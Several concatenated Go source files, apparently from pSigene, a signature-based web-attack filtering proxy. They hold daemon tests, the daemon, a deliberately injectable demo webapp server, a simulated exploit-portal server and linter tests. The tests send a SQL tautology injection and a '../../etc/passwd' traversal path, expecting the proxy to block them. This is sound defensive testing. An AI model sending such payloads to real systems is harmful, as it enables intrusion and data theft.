	// The data path does not expose the control surface: /-/ goes to the
	// upstream like any other route (the webapp answers 404 for it).
	if resp, _ := get(base, "/-/statz", ""); resp.StatusCode != http.StatusNotFound {
		t.Fatalf("statz on data path: %d, want upstream 404", resp.StatusCode)
	}
	// A benign lookup proxies through to the webapp.
	resp, body := get(base, "/wavsep/Case1.jsp?id=3", "")
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, "<html>") {
		t.Fatalf("benign: %d %q", resp.StatusCode, body)
	}
	// The generation header carries the serving artifact's identity:
	// generation, version (legacy files get a synthesized file: version)
	// and truncated content hash.
	if gen := resp.Header.Get("X-Psigene-Gen"); !strings.HasPrefix(gen, "1 file:model.json sha256:") {
		t.Fatalf("generation header %q", gen)
	}
	// A classic tautology is stopped at the gateway.
	resp, _ = get(base, "/wavsep/Case1.jsp?id=1%27%20or%20%271%27=%271", "")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("injection: %d, want 403", resp.StatusCode)
	}
	if resp.Header.Get("X-Psigene-Signatures") == "" {
		t.Fatal("blocked response must name the matching signatures")
	}
	if resp, body := get(adminBase, "/-/statz", "hunter2"); resp.StatusCode != http.StatusOK ||
		!strings.Contains(body, `"blocked": 1`) || !strings.Contains(body, `"modelVersion": "file:model.json"`) {
		t.Fatalf("statz: %d %s", resp.StatusCode, body)
	}

	// Reload is confined to the model dir: names that resolve outside it
	// are rejected up front; the model's own basename reloads fine.
	post := func(path string) int {
		t.Helper()
		req, err := http.NewRequest(http.MethodPost, adminBase+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer hunter2")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatalf("POST %s: %v", path, err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := post("/-/reload?path=" + url.QueryEscape("../../etc/passwd")); code != http.StatusBadRequest {
		t.Fatalf("traversal reload: %d, want 400", code)
	}
	if code := post("/-/reload?path=model.json"); code != http.StatusOK {
		t.Fatalf("reload: %d, want 200", code)
	}

	close(hooks.stop)
	if err := <-done; err != nil {
		t.Fatalf("daemon exit: %v\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "drained, bye") {
		t.Fatalf("missing drain log:\n%s", out.String())
	}
}

// TestDaemonFleetMode boots the daemon with -fleet 3: the data path
// serves through the front (every verdict carries the replica header),
// the admin surface is the fleet aggregate (per-replica statz, labeled
// metrics), reload fans out to every replica, and -fleet 0 is rejected.
func TestDaemonFleetMode(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 45).Requests(1200)
	benign := traffic.NewGenerator(46).Requests(1500)
	m, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	model := filepath.Join(t.TempDir(), "model.json")
	if err := m.SaveFile(model); err != nil {
		t.Fatal(err)
	}

	up := httptest.NewServer(webapp.New(20))
	defer up.Close()

	var sb strings.Builder
	if err := run([]string{"-model", model, "-upstream", up.URL, "-fleet", "0"}, &sb, nil); err == nil {
		t.Fatal("-fleet 0: want error")
	}

	hooks := &testHooks{
		ready:      make(chan string, 1),
		adminReady: make(chan string, 1),
		stop:       make(chan struct{}),
	}
	var out strings.Builder
	done := make(chan error, 1)
	go func() {
		done <- run([]string{
			"-model", model, "-upstream", up.URL, "-fleet", "3",
			"-listen", "127.0.0.1:0", "-admin-listen", "127.0.0.1:0",
			"-admin-token", "hunter2",
		}, &out, hooks)
	}()
	base := "http://" + <-hooks.ready
	adminBase := "http://" + <-hooks.adminReady

	get := func(base, path, token string) (*http.Response, string) {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, base+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp, string(body)
	}

	resp, body := get(base, "/wavsep/Case1.jsp?id=3", "")
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, "<html>") {
		t.Fatalf("benign through fleet: %d %q", resp.StatusCode, body)
	}
	if fl := resp.Header.Get("X-Psigene-Fleet"); fl == "" {
		t.Fatal("fleet mode must stamp X-Psigene-Fleet on every verdict")
	}
	resp, _ = get(base, "/wavsep/Case1.jsp?id=1%27%20or%20%271%27=%271", "")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("injection through fleet: %d, want 403", resp.StatusCode)
	}

	if resp, _ := get(adminBase, "/-/readyz", "hunter2"); resp.StatusCode != http.StatusOK {
		t.Fatalf("fleet readyz: %d", resp.StatusCode)
	}
	if resp, body := get(adminBase, "/-/statz", "hunter2"); resp.StatusCode != http.StatusOK ||
		!strings.Contains(body, `"replicas"`) || !strings.Contains(body, `"generation": 1`) {
		t.Fatalf("fleet statz: %d %s", resp.StatusCode, body)
	}
	if resp, body := get(adminBase, "/-/metrics", "hunter2"); resp.StatusCode != http.StatusOK ||
		!strings.Contains(body, `psigened_fleet_replica_served_total{replica="2"}`) {
		t.Fatalf("fleet metrics: %d %s", resp.StatusCode, body)
	}

	// Reload fans out to every replica and bumps the fleet generation.
	req, err := http.NewRequest(http.MethodPost, adminBase+"/-/reload?path=model.json", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer hunter2")
	rresp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	rresp.Body.Close()
	if rresp.StatusCode != http.StatusOK {
		t.Fatalf("fleet reload: %d", rresp.StatusCode)
	}
	if resp, body := get(adminBase, "/-/statz", "hunter2"); resp.StatusCode != http.StatusOK ||
		!strings.Contains(body, `"generation": 2`) {
		t.Fatalf("statz after reload: %d %s", resp.StatusCode, body)
	}

	close(hooks.stop)
	if err := <-done; err != nil {
		t.Fatalf("fleet daemon exit: %v\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "fleet mode: 3 replicas") {
		t.Fatalf("missing fleet startup log:\n%s", out.String())
	}
}

// TestDaemonListenConflict covers the bind-failure path.
func TestDaemonListenConflict(t *testing.T) {
	model := filepath.Join(t.TempDir(), "model.json")
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 43).Requests(600)
	benign := traffic.NewGenerator(44).Requests(900)
	m, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	if err := m.SaveFile(model); err != nil {
		t.Fatal(err)
	}
	up := httptest.NewServer(webapp.New(5))
	defer up.Close()
	var sb strings.Builder
	err = run([]string{"-model", model, "-upstream", up.URL, "-listen", "256.256.256.256:1"}, &sb, nil)
	if err == nil {
		t.Fatal("unbindable address: want error")
	}
	_ = fmt.Sprint(err)
}
