// Command psigened is the pSigene serving daemon: a reverse proxy that
// scores every request against a trained signature set before forwarding
// it to the protected upstream.
//
//	psigened -model model.json -upstream http://127.0.0.1:8080 -listen :9090
//
// The admin control surface is served on its own listener (-admin-listen,
// loopback-only by default; "" disables it) so public proxied traffic can
// never reach it and no upstream route is shadowed. -admin-token adds
// bearer-token auth on top. Admin endpoints bypass admission control:
//
//	GET  /-/healthz            liveness
//	GET  /-/readyz             readiness (503 while draining)
//	GET  /-/statz              counters, breaker state, scoring latency,
//	                           serving artifact version + content hash
//	GET  /-/metrics            the same, in Prometheus text format
//	POST /-/reload?path=m.json validate-then-swap a model named inside
//	                           -model-dir (default: the -model directory);
//	                           a corrupt model leaves the old one serving
//	POST /-/canary/start?path= score a candidate side-by-side on sampled
//	                           traffic without affecting verdicts
//	GET  /-/canary             verdict-delta report for the active canary
//	POST /-/canary/promote     swap the candidate in; /-/canary/abort drops it
//
// -model accepts either a legacy single-file model or a versioned
// artifact directory (manifest.json + model.json); artifact identity is
// echoed on X-Psigene-Gen and /-/statz.
//
// On SIGINT/SIGTERM the daemon stops admitting requests, drains in-flight
// ones (bounded by -drain-timeout), and exits.
package main

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"psigene/internal/admission"
	"psigene/internal/core"
	"psigene/internal/fleet"
	"psigene/internal/gateway"
)

// randomSeed draws the admission seed from the OS entropy source. The
// seed feeds caller-shard placement and penalty jitter; a predictable
// production seed would let an attacker precompute keys that collide into
// one shard and evict a victim's limiter state. Tests that need
// reproducible decisions inject their own seed via admission.Config.
func randomSeed() (int64, error) {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		return 0, fmt.Errorf("seed admission hashing: %w", err)
	}
	return int64(binary.LittleEndian.Uint64(b[:])), nil
}

// parseCIDRList parses a comma-separated list of CIDRs or bare addresses.
func parseCIDRList(s string) ([]netip.Prefix, error) {
	var out []netip.Prefix
	for _, part := range strings.Split(s, ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		if !strings.ContainsRune(part, '/') {
			ip, err := netip.ParseAddr(part)
			if err != nil {
				return nil, fmt.Errorf("bad address %q: %w", part, err)
			}
			ip = ip.Unmap()
			out = append(out, netip.PrefixFrom(ip, ip.BitLen()))
			continue
		}
		p, err := netip.ParsePrefix(part)
		if err != nil {
			return nil, fmt.Errorf("bad CIDR %q: %w", part, err)
		}
		out = append(out, p)
	}
	return out, nil
}

func main() {
	if err := run(os.Args[1:], os.Stdout, nil); err != nil {
		fmt.Fprintln(os.Stderr, "psigened:", err)
		os.Exit(1)
	}
}

// testHooks lets the tests drive the daemon: ready receives the bound
// data-path address once listening, adminReady the admin address, and
// stop triggers the drain path a signal would.
type testHooks struct {
	ready      chan string
	adminReady chan string
	stop       chan struct{}
}

// run wires flags into a gateway.Gateway and serves until a signal (or
// the test stop hook) triggers the drain.
func run(args []string, w io.Writer, hooks *testHooks) error {
	fs := flag.NewFlagSet("psigened", flag.ContinueOnError)
	var (
		model        = fs.String("model", "", "trained model file or artifact directory (psigene train output); required")
		upstream     = fs.String("upstream", "", "base URL of the protected upstream; required")
		listen       = fs.String("listen", ":9090", "address to serve on")
		adminListen  = fs.String("admin-listen", "127.0.0.1:9091", "address for the /-/ admin surface (loopback by default; empty disables it)")
		adminToken   = fs.String("admin-token", "", "bearer token required on admin requests (empty: rely on the listener being private)")
		modelDir     = fs.String("model-dir", "", "directory -/reload model names resolve in (default: the -model directory)")
		policy       = fs.String("policy", "open", "scoring-failure policy: open (forward unscored) or closed (reject)")
		maxInFlight  = fs.Int("max-in-flight", 256, "concurrent request cap; excess is shed with 503")
		maxBody      = fs.Int64("max-body-bytes", 1<<20, "request body cap in bytes")
		scoreBudget  = fs.Duration("score-budget", 10*time.Millisecond, "deadline slice reserved for scoring")
		upTimeout    = fs.Duration("upstream-timeout", 5*time.Second, "deadline slice for the upstream leg")
		drainTimeout = fs.Duration("drain-timeout", 30*time.Second, "how long shutdown waits for in-flight requests")

		// Fleet mode (see internal/fleet): N in-process gateway replicas
		// behind a consistent-hash front with per-replica health,
		// failover, and coordinated two-phase model reloads.
		fleetN = fs.Int("fleet", 1, "number of in-process gateway replicas; >1 serves through the fleet front (caller-affine routing, ejection/failover, coordinated reloads)")

		// Per-client abuse control (see internal/admission). Admission is
		// enabled when any tier limit or a denylist is configured.
		qps          = fs.Int("qps", 0, "per-caller requests per second; 0 disables the tier")
		qpm          = fs.Int("qpm", 0, "per-caller requests per minute; 0 disables the tier")
		qpd          = fs.Int("qpd", 0, "per-caller requests per day; 0 disables the tier")
		qpsStrikes   = fs.Int("qps-strikes", 0, "qps-tier rejections before the penalty box; 0 keeps the shared default of 3")
		qpmStrikes   = fs.Int("qpm-strikes", 0, "qpm-tier rejections before the penalty box; 0 keeps the shared default of 3")
		qpdStrikes   = fs.Int("qpd-strikes", 0, "qpd-tier rejections before the penalty box; 0 keeps the shared default of 3")
		blockSecs    = fs.Int("block-seconds", 10, "base penalty-box duration for repeat limit abusers; escalates per strike")
		maxBlockSecs = fs.Int("max-block-seconds", 3600, "cap on the escalating penalty-box duration")
		maxCallers   = fs.Int("max-callers", 1<<16, "bound on tracked caller limiter states (LRU-evicted beyond it)")
		keyHeader    = fs.String("client-key-header", "", "request header naming the caller (e.g. an API key validated upstream); empty keys callers by IP")
		keyCookie    = fs.String("client-key-cookie", "", "cookie naming the caller when the key header is absent")
		trustedProxy = fs.String("trusted-proxies", "", "comma-separated CIDRs of proxies allowed to assert X-Forwarded-For; empty trusts no one")
		denylistPath = fs.String("denylist", "", "file of denied IPs/CIDRs (one per line, # comments) answered with 403")
		denyDir      = fs.String("deny-dir", "", "directory /-/denylist/reload names resolve in (default: the -denylist directory)")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *model == "" || *upstream == "" {
		return fmt.Errorf("both -model and -upstream are required")
	}
	var pol gateway.Policy
	switch *policy {
	case "open":
		pol = gateway.FailOpen
	case "closed":
		pol = gateway.FailClosed
	default:
		return fmt.Errorf("unknown -policy %q (want open or closed)", *policy)
	}

	if *fleetN < 1 {
		return fmt.Errorf("-fleet must be at least 1 replica")
	}

	m, man, err := core.LoadAny(*model)
	if err != nil {
		return fmt.Errorf("load model: %w", err)
	}

	// Per-client admission control: built only when a tier or denylist is
	// configured, so the zero-flag deployment keeps the pre-admission
	// data path byte for byte. In fleet mode each replica gets its own
	// controller — the front's caller-affine routing keeps any one
	// caller's limiter state on one replica, so per-replica controllers
	// behave like the single-instance one without shared locks.
	admissionOn := *qps > 0 || *qpm > 0 || *qpd > 0 || *denylistPath != ""
	var trusted, denied *admission.CIDRSet
	var admissionSeed int64
	if admissionOn {
		if *trustedProxy != "" {
			prefixes, err := parseCIDRList(*trustedProxy)
			if err != nil {
				return fmt.Errorf("-trusted-proxies: %w", err)
			}
			if trusted, err = admission.BuildCIDRSet(prefixes); err != nil {
				return fmt.Errorf("-trusted-proxies: %w", err)
			}
		}
		if *denylistPath != "" {
			if denied, err = admission.LoadDenylistFile(*denylistPath); err != nil {
				return fmt.Errorf("-denylist: %w", err)
			}
		}
		if admissionSeed, err = randomSeed(); err != nil {
			return err
		}
	}
	newController := func() (*admission.Controller, error) {
		if !admissionOn {
			return nil, nil
		}
		ctrl := admission.New(admission.Config{
			QPS: *qps, QPM: *qpm, QPD: *qpd,
			QPSStrikes:      *qpsStrikes,
			QPMStrikes:      *qpmStrikes,
			QPDStrikes:      *qpdStrikes,
			BlockSeconds:    *blockSecs,
			MaxBlockSeconds: *maxBlockSecs,
			MaxCallers:      *maxCallers,
			Seed:            admissionSeed,
			Identity: admission.Identity{
				Header:         *keyHeader,
				Cookie:         *keyCookie,
				TrustedProxies: trusted,
			},
		})
		// Installed via SetDenylist, not Config.Denylist, so a probe
		// rejection is a hard startup error instead of New's counted drop:
		// an operator who configured a denylist never serves without one.
		if denied != nil {
			if err := ctrl.SetDenylist(denied); err != nil {
				return nil, fmt.Errorf("-denylist: %w", err)
			}
		}
		return ctrl, nil
	}

	replicas := make([]*gateway.Gateway, *fleetN)
	var firstCtrl *admission.Controller
	for i := range replicas {
		ctrl, err := newController()
		if err != nil {
			return err
		}
		if i == 0 {
			firstCtrl = ctrl
		}
		replicas[i], err = gateway.New(*upstream, m, gateway.Options{
			MaxInFlight:     *maxInFlight,
			MaxBodyBytes:    *maxBody,
			ScoreBudget:     *scoreBudget,
			UpstreamTimeout: *upTimeout,
			Policy:          pol,
			ModelVersion:    man.Version,
			ModelSHA256:     man.ModelSHA256,
			Admission:       ctrl,
		})
		if err != nil {
			return err
		}
	}
	g := replicas[0]
	if firstCtrl != nil {
		set, _ := firstCtrl.Denylist()
		fmt.Fprintf(w, "psigened: per-client admission on (qps=%d qpm=%d qpd=%d, denylist %d entries)\n",
			*qps, *qpm, *qpd, set.Len())
	}

	// Fleet mode wraps the replicas in the consistent-hash front; the
	// single-replica deployment serves the gateway directly, byte for
	// byte what it was before fleet mode existed. When admission keys
	// callers by a header, the ring routes by the same header so caller
	// affinity and admission identity agree.
	var handler http.Handler = g
	drain := g.Drain
	var front *fleet.Front
	if *fleetN > 1 {
		fleetSeed, err := randomSeed()
		if err != nil {
			return err
		}
		opts := fleet.Options{Seed: fleetSeed}
		if *keyHeader != "" {
			opts.KeyFunc = fleet.HeaderKey(*keyHeader)
		}
		if front, err = fleet.New(replicas, opts); err != nil {
			return err
		}
		handler = front
		drain = front.Drain
		fmt.Fprintf(w, "psigened: fleet mode: %d replicas behind the consistent-hash front\n", *fleetN)
	}
	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "psigened: scoring with %s (%d signatures, policy %s), proxying to %s on %s\n",
		m.Name(), len(m.Signatures), pol, *upstream, ln.Addr())
	if hooks != nil && hooks.ready != nil {
		hooks.ready <- ln.Addr().String()
	}

	srv := &http.Server{Handler: handler}
	errCh := make(chan error, 2)
	go func() {
		if err := srv.Serve(ln); !errors.Is(err, http.ErrServerClosed) {
			errCh <- err
		}
	}()

	// The admin surface gets its own listener so the public data path can
	// never reach reload/statz and /-/ stays usable by the upstream.
	var adminSrv *http.Server
	if *adminListen != "" {
		dir := *modelDir
		if dir == "" {
			dir = filepath.Dir(*model)
		}
		adminLn, err := net.Listen("tcp", *adminListen)
		if err != nil {
			_ = ln.Close()
			return fmt.Errorf("admin listen: %w", err)
		}
		fmt.Fprintf(w, "psigened: admin surface on %s (models reload from %s)\n", adminLn.Addr(), dir)
		if hooks != nil && hooks.adminReady != nil {
			hooks.adminReady <- adminLn.Addr().String()
		}
		dd := *denyDir
		if dd == "" && *denylistPath != "" {
			dd = filepath.Dir(*denylistPath)
		}
		// In fleet mode the admin surface is the front's: statz and
		// metrics aggregate every replica, and reload is the two-phase
		// all-or-nothing fanout instead of a single gateway's swap.
		var adminHandler http.Handler
		if front != nil {
			adminHandler = front.Admin(fleet.AdminConfig{
				Token:    *adminToken,
				ModelDir: dir,
				Log:      w,
			})
		} else {
			adminHandler = g.Admin(gateway.AdminConfig{
				Token:    *adminToken,
				ModelDir: dir,
				DenyDir:  dd,
				Log:      w,
			})
		}
		adminSrv = &http.Server{Handler: adminHandler}
		go func() {
			if err := adminSrv.Serve(adminLn); !errors.Is(err, http.ErrServerClosed) {
				errCh <- err
			}
		}()
	}

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	defer signal.Stop(sig)
	var testStop chan struct{}
	if hooks != nil {
		testStop = hooks.stop
	}
	select {
	case err := <-errCh:
		return err
	case s := <-sig:
		fmt.Fprintf(w, "psigened: %v: draining\n", s)
	case <-testStop:
		fmt.Fprintln(w, "psigened: stop requested: draining")
	}

	ctx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
	defer cancel()
	if err := drain(ctx); err != nil {
		fmt.Fprintf(w, "psigened: drain incomplete: %v\n", err)
	}
	if err := srv.Shutdown(ctx); err != nil && !errors.Is(err, context.DeadlineExceeded) {
		return fmt.Errorf("shutdown: %w", err)
	}
	if adminSrv != nil {
		if err := adminSrv.Shutdown(ctx); err != nil && !errors.Is(err, context.DeadlineExceeded) {
			return fmt.Errorf("admin shutdown: %w", err)
		}
	}
	fmt.Fprintln(w, "psigened: drained, bye")
	return nil
}
