// Command webappsrv serves the WAVSEP-style vulnerable demo application
// (internal/webapp) over HTTP — the protected upstream for the psigened
// quickstart and a live target for the scanner.
//
//	webappsrv -addr 127.0.0.1:8080 -pages 24
package main

import (
	"flag"
	"fmt"
	"net/http"
	"os"

	"psigene/internal/webapp"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "webappsrv:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("webappsrv", flag.ContinueOnError)
	var (
		addr  = fs.String("addr", "127.0.0.1:8080", "address to serve on")
		pages = fs.Int("pages", 24, "number of injectable pages")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}
	app := webapp.New(*pages)
	fmt.Printf("webappsrv: %d injectable pages on http://%s (e.g. /wavsep/Case1.jsp?id=1)\n", *pages, *addr)
	return http.ListenAndServe(*addr, app)
}
