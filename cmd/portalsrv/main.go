// Command portalsrv runs the simulated cybersecurity portals as real HTTP
// servers, so the crawler (psigene crawl) can be exercised over the
// network exactly as the paper's first phase describes.
//
//	portalsrv -addr 127.0.0.1:8931 -entries 40
//
// serves four portals under one listener:
//
//	/securityfocus/  HTML listing + advisory pages
//	/exploitdb/      HTML listing + advisory pages
//	/packetstorm/    HTML listing + advisory pages
//	/osvdb/          JSON search API (/osvdb/api/search)
package main

import (
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"

	"psigene/internal/attackgen"
	"psigene/internal/faultify"
	"psigene/internal/portal"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "portalsrv:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("portalsrv", flag.ContinueOnError)
	var (
		addr       = fs.String("addr", "127.0.0.1:8931", "listen address")
		entries    = fs.Int("entries", 40, "advisories per portal")
		seed       = fs.Int64("seed", 1, "sample generator seed")
		faultRate  = fs.Float64("fault-rate", 0, "total injected-fault probability per request (0 disables, spread uniformly over fault classes)")
		faultSeed  = fs.Int64("fault-seed", 1, "fault schedule seed (same seed, same faults)")
		faultLives = fs.Int("fault-repeats", 2, "times an afflicted URL faults before recovering (<0: never recovers)")
	)
	if err := fs.Parse(args); err != nil {
		return err
	}

	mux := http.NewServeMux()
	names := []struct {
		prefix string
		style  portal.Style
	}{
		{"securityfocus", portal.StyleHTML},
		{"exploitdb", portal.StyleHTML},
		{"packetstorm", portal.StyleHTML},
		{"osvdb", portal.StyleAPI},
		{"fulldisclosure", portal.StyleForum},
	}
	for i, n := range names {
		gen := attackgen.NewGenerator(attackgen.CrawlProfile(), seedFor(*seed, i))
		p := portal.New(n.prefix, n.style, 10, portal.GenerateEntries(gen, *entries))
		h := p.Handler()
		if *faultRate > 0 {
			inj := faultify.New(faultify.Config{
				Seed:    *faultSeed,
				Rates:   faultify.Uniform(*faultRate),
				Repeats: *faultLives,
			})
			h = p.FaultyHandler(inj)
		}
		mux.Handle("/"+n.prefix+"/", http.StripPrefix("/"+n.prefix, h))
	}
	if *faultRate > 0 {
		fmt.Printf("fault injection on: rate %.0f%%, seed %d, repeats %d\n", *faultRate*100, *faultSeed, *faultLives)
	}

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	fmt.Printf("portals listening on http://%s/{securityfocus,exploitdb,packetstorm,osvdb,fulldisclosure}/\n", ln.Addr())
	fmt.Printf("crawl them with:\n  psigene crawl -portals %s\n", portalList(ln.Addr().String(), names))
	server := &http.Server{Handler: mux}
	return server.Serve(ln)
}

func seedFor(base int64, i int) int64 { return base + int64(i)*7 }

func portalList(addr string, names []struct {
	prefix string
	style  portal.Style
}) string {
	out := ""
	for i, n := range names {
		if i > 0 {
			out += ","
		}
		out += "http://" + addr + "/" + n.prefix
	}
	return out
}
