package main

import (
	"bytes"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"psigene/internal/analysis"
)

// TestFixtureGolden runs the suite over the fixture module, which holds
// one deliberate violation per code analyzer plus one suppressed
// violation, and compares the report to the golden file. The suppressed
// os.Remove in errs.Quiet must NOT appear — its absence from the golden
// output is the suppression test.
func TestFixtureGolden(t *testing.T) {
	var buf bytes.Buffer
	n, err := run([]string{"./..."}, filepath.Join("testdata", "src"), &buf)
	if err != nil {
		t.Fatal(err)
	}
	want, err := os.ReadFile(filepath.Join("testdata", "golden.txt"))
	if err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != string(want) {
		t.Errorf("report differs from golden file\n--- got ---\n%s--- want ---\n%s", got, want)
	}
	if n != 19 {
		t.Errorf("run returned %d findings, want 19 (the fixture violations)", n)
	}
}

// TestDeterministicOutput runs the suite twice in one process and
// requires byte-identical reports: analyzer output must not leak map
// iteration order or any other run-to-run state.
func TestDeterministicOutput(t *testing.T) {
	var first, second bytes.Buffer
	if _, err := run([]string{"./..."}, filepath.Join("testdata", "src"), &first); err != nil {
		t.Fatal(err)
	}
	if _, err := run([]string{"./..."}, filepath.Join("testdata", "src"), &second); err != nil {
		t.Fatal(err)
	}
	if first.String() != second.String() {
		t.Errorf("two runs differ\n--- first ---\n%s--- second ---\n%s", first.String(), second.String())
	}
}

// TestBaselineFlow exercises the full baseline lifecycle: regenerate,
// reject unjustified entries, justify, gate to zero.
func TestBaselineFlow(t *testing.T) {
	path := filepath.Join(t.TempDir(), "baseline.json")
	var buf bytes.Buffer
	n, err := run([]string{"-write-baseline", path, "./..."}, filepath.Join("testdata", "src"), &buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != 0 {
		t.Fatalf("-write-baseline reported %d findings, want 0 (write mode must not fail the run)", n)
	}

	// Freshly written entries carry the placeholder reason, which the
	// gate must reject: nobody has justified the debt yet.
	if _, err := run([]string{"-baseline", path, "./..."}, filepath.Join("testdata", "src"), io.Discard); err == nil {
		t.Fatal("baseline with placeholder reasons was accepted")
	}

	b, err := analysis.ReadBaseline(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(b.Entries) != 19 {
		t.Fatalf("baseline holds %d entries, want 19", len(b.Entries))
	}
	for i := range b.Entries {
		b.Entries[i].Reason = "fixture violation kept on purpose"
	}
	data, err := json.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}

	n, err = run([]string{"-baseline", path, "./..."}, filepath.Join("testdata", "src"), io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	if n != 0 {
		t.Errorf("justified baseline still reported %d findings, want 0", n)
	}
}

// TestFixtureJSON exercises -json and -checks together: only the three
// error-discipline findings survive the filter, as valid JSON.
func TestFixtureJSON(t *testing.T) {
	var buf bytes.Buffer
	n, err := run([]string{"-json", "-checks", "errcheck,errwrap", "./..."}, filepath.Join("testdata", "src"), &buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != 3 {
		t.Fatalf("filtered run returned %d findings, want 3", n)
	}
	var ds []analysis.Diagnostic
	if err := json.Unmarshal(buf.Bytes(), &ds); err != nil {
		t.Fatalf("output is not valid JSON: %v\n%s", err, buf.String())
	}
	for _, d := range ds {
		if d.Check != "errcheck" && d.Check != "errwrap" {
			t.Errorf("-checks let through %q: %s", d.Check, d)
		}
	}
}

// TestCleanTree runs the full suite — code analyzers plus the
// corpus-driven catalog checks at their default size and seed — over the
// real repository and requires a clean report: every known flaw must be
// fixed or carry a lint:ignore with a reason.
func TestCleanTree(t *testing.T) {
	if testing.Short() {
		t.Skip("type-checks the whole module and extracts the probe corpus")
	}
	var buf bytes.Buffer
	n, err := run([]string{"./..."}, filepath.Join("..", ".."), &buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != 0 {
		t.Errorf("repository is not lint-clean (%d findings):\n%s", n, buf.String())
	}
}

// TestScopedRun checks package selection: a run scoped away from
// internal/feature must skip the catalog checks and report nothing on a
// clean package.
func TestScopedRun(t *testing.T) {
	var buf bytes.Buffer
	n, err := run([]string{"./errs"}, filepath.Join("testdata", "src"), &buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != 2 {
		t.Fatalf("scoped run returned %d findings, want 2", n)
	}
	if strings.Contains(buf.String(), "matrix.go") {
		t.Errorf("scoped run leaked findings from unselected packages:\n%s", buf.String())
	}
}
