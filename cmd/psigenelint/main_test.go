package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"psigene/internal/analysis"
)

// TestFixtureGolden runs the suite over the fixture module, which holds
// one deliberate violation per code analyzer plus one suppressed
// violation, and compares the report to the golden file. The suppressed
// os.Remove in errs.Quiet must NOT appear — its absence from the golden
// output is the suppression test.
func TestFixtureGolden(t *testing.T) {
	var buf bytes.Buffer
	n, err := run([]string{"./..."}, filepath.Join("testdata", "src"), &buf)
	if err != nil {
		t.Fatal(err)
	}
	want, err := os.ReadFile(filepath.Join("testdata", "golden.txt"))
	if err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != string(want) {
		t.Errorf("report differs from golden file\n--- got ---\n%s--- want ---\n%s", got, want)
	}
	if n != 7 {
		t.Errorf("run returned %d findings, want 7 (one per code analyzer)", n)
	}
}

// TestFixtureJSON exercises -json and -checks together: only the two
// error-discipline findings survive the filter, as valid JSON.
func TestFixtureJSON(t *testing.T) {
	var buf bytes.Buffer
	n, err := run([]string{"-json", "-checks", "errcheck,errwrap", "./..."}, filepath.Join("testdata", "src"), &buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != 2 {
		t.Fatalf("filtered run returned %d findings, want 2", n)
	}
	var ds []analysis.Diagnostic
	if err := json.Unmarshal(buf.Bytes(), &ds); err != nil {
		t.Fatalf("output is not valid JSON: %v\n%s", err, buf.String())
	}
	for _, d := range ds {
		if d.Check != "errcheck" && d.Check != "errwrap" {
			t.Errorf("-checks let through %q: %s", d.Check, d)
		}
	}
}

// TestCleanTree runs the full suite — code analyzers plus the
// corpus-driven catalog checks at their default size and seed — over the
// real repository and requires a clean report: every known flaw must be
// fixed or carry a lint:ignore with a reason.
func TestCleanTree(t *testing.T) {
	if testing.Short() {
		t.Skip("type-checks the whole module and extracts the probe corpus")
	}
	var buf bytes.Buffer
	n, err := run([]string{"./..."}, filepath.Join("..", ".."), &buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != 0 {
		t.Errorf("repository is not lint-clean (%d findings):\n%s", n, buf.String())
	}
}

// TestScopedRun checks package selection: a run scoped away from
// internal/feature must skip the catalog checks and report nothing on a
// clean package.
func TestScopedRun(t *testing.T) {
	var buf bytes.Buffer
